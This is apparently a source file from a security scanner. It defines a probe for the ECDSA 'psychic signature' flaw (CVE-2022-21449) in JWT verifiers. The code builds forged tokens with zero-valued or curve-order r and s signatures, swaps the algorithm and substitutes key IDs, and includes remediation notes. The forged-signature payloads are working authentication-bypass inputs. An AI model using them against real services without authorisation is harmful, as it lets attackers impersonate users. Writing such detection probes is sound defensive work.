/* SPDX-License-Identifier: Apache-2.0 */
/* Does an ECDSA signature of zeros pass? */
#include "scan/forgery/forgery.h"

#include "base/mutant.h"
/* The order of P-256 (FIPS 186-5, appendix on curves), which is 0 modulo itself. */
#define P256_ORDER                                                                                 \
    "\xff\xff\xff\xff\x00\x00\x00\x00\xff\xff\xff\xff\xff\xff\xff\xff\xbc\xe6\xfa\xad\xa7\x17\x9e" \
    "\x84\xf3\xb9\xca\xc2\xfc\x63\x25\x51"

/* Which key the token names. */
struct naming {
    bool changed;
    struct span kid;      /* as JSON; {NULL, 0}: none */
    enum battery battery; /* of the plainest signature */
};

static enum err add(struct subject *subject, const struct forgery *forgery, enum alg alg,
                    const struct naming *naming, struct span signature, const char *label,
                    enum battery battery) {
    struct arena *arena = subject_arena(subject);
    struct edit header[] = {{SPAN("alg"), forgery_alg(subject, forgery, alg)},
                            {SPAN("kid"), naming->kid}};
    struct edit extra = {SPAN("postern"), SPAN("1")};
    struct forgery_change change = {.header = header,
                                    .header_n = naming->changed ? 2 : 1,
                                    .payload = &extra,
                                    .payload_n = 1,
                                    .signer = {.signature = signature},
                                    .alone = naming->changed};
    struct span token;
    TRY(forgery_make(subject, forgery, &change, &token));
    struct attack attack = {
        .label = arena_printf(arena, "%.*s: %s%s", SPAN_ARG(alg_info(alg)->name), label,
                              naming->changed ? ", another kid" : ""),
        .cause = SPAN("psychic"),
        .battery = battery,
        .message =
            SPAN("An ECDSA signature whose r and s are 0 (or the curve's order) passes for any "
                 "message."),
    };
    return forgery_attack(subject, &jwt_psychic_signature, forgery, token, attack);
}

static enum err with_alg(struct subject *subject, const struct forgery *forgery, enum alg alg,
                         const struct naming *naming) {
    const struct alg_curve *curve = alg_curve(alg_info(alg)->curve);
    char *zeros = arena_array(subject_arena(subject), char, curve->signature_size);
    TRY_PTR(zeros);
    TRY(add(subject, forgery, alg, naming, (struct span){zeros, curve->signature_size},
            "r and s are 0", naming->battery));
    TRY(add(subject, forgery, alg, naming, SPAN("\x30\x06\x02\x01\x00\x02\x01\x00"),
            "r and s are 0, in DER", BATTERY_FULL));
    return alg == ALG_ES256 ? add(subject, forgery, alg, naming, SPAN(P256_ORDER P256_ORDER),
                                  "r and s are the order", BATTERY_FULL)
                            : OK;
}

/* The token's own algorithm; where that is no ECDSA, the verifier may take that as well, with
 * whichever key it has for it. */
static enum err forge(struct subject *subject, const struct forgery *forgery) {
    static const enum alg algs[] = {ALG_ES256, ALG_ES384, ALG_ES512};
    struct naming own = {.changed = false, .battery = BATTERY_SHORT};
    struct naming none = {.changed = true, .battery = BATTERY_FULL};
    if (alg_info(forgery->jws.alg)->family == FAMILY_ECDSA) {
        return with_alg(subject, forgery, forgery->jws.alg, &own);
    }
    own.battery = BATTERY_FULL;
    for (size_t i = 0; i < sizeof(algs) / sizeof(*algs); i++) {
        TRY(MUTANT(zeros_lose_kid) ? OK : with_alg(subject, forgery, algs[i], &own));
    }
    TRY(with_alg(subject, forgery, ALG_ES256, &none));
    const struct published *keys = forgery_public_keys(subject);
    for (size_t i = 0; i < keys->n; i++) {
        const struct alg_curve *curve = pkey_curve(keys->at[i].pkey);
        if (curve && !curve->edwards && keys->at[i].kid.len && !MUTANT(zeros_for_no_key)) {
            struct naming named = {true, forge_string(subject_arena(subject), keys->at[i].kid),
                                   BATTERY_FULL};
            TRY(with_alg(subject, forgery, alg_of_curve(curve), &named));
        }
    }
    return OK;
}

static const struct rule rule = {
    .id = "jwt-psychic-signature",
    .group = "jwt",
    .severity = SEVERITY_CRITICAL,
    .title = "An ECDSA signature of zeros is accepted",
    .cwe = {"CWE-347"},
    .owasp = "API2:2023",
    .why = "The verifier does not check that r and s lie between 1 and the order of the curve, so "
           "that a blank signature fits every message and every key (CVE-2022-21449).",
    .how = "The claims are changed and sent with r and s of 0 and of the curve's order; where "
           "tokens are not signed by ECDSA, alg says that they are, and kid names a key for it "
           "that is published, or none. It fires when that is accepted.",
    .fix = "Update the runtime (Java 17.0.3, 18.0.1 and later) or the library; leave signature "
           "arithmetic to OpenSSL.",
};

const struct probe jwt_psychic_signature = {.rule = &rule,
                                            .needs = NEEDS_SECURITY | NEEDS_REFUSAL | NEEDS_VALID,
                                            .opens = true,
                                            .cause = &jwt_signature_unchecked,
                                            .forge = forge};
